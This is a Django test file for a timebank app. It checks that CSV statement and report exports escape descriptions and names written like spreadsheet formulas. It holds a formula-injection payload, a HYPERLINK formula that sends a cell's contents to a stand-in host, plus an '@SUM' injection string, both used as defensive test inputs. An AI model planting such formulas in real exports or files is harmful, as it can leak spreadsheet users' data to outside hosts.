"""The timebank's CSV files: a name or description written like a formula comes out inert."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


def cells(response) -> list[str]:
    assert response.status_code == 200
    return [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]


def test_a_description_like_a_formula_is_inert_in_the_statement(
    community, member, neighbour, record, client_for
):
    record(neighbour, member, minutes=90, description=FORMULA, confirm=True)

    written = cells(
        client_for(member).get(reverse("timebank:statement_csv", args=[community.slug]))
    )

    assert "'" + FORMULA in written
    assert FORMULA not in written
    assert "-90" in written  # minutes given stay a plain (negative) number


def test_neighbourhood_and_category_names_like_formulas_are_inert_in_the_report(
    community, member, neighbour, record, coordinator, client_for
):
    community.neighbourhoods.filter(pk=community.neighbourhoods.first().pk).update(name="@SUM(1+1)")
    record(neighbour, member, minutes=60, description="Gardening", confirm=True)

    written = cells(
        client_for(coordinator).get(reverse("timebank:report_csv", args=[community.slug]))
    )

    assert any(c.startswith("'@SUM(1+1)") for c in written)
    assert not any(c.startswith("@") for c in written)
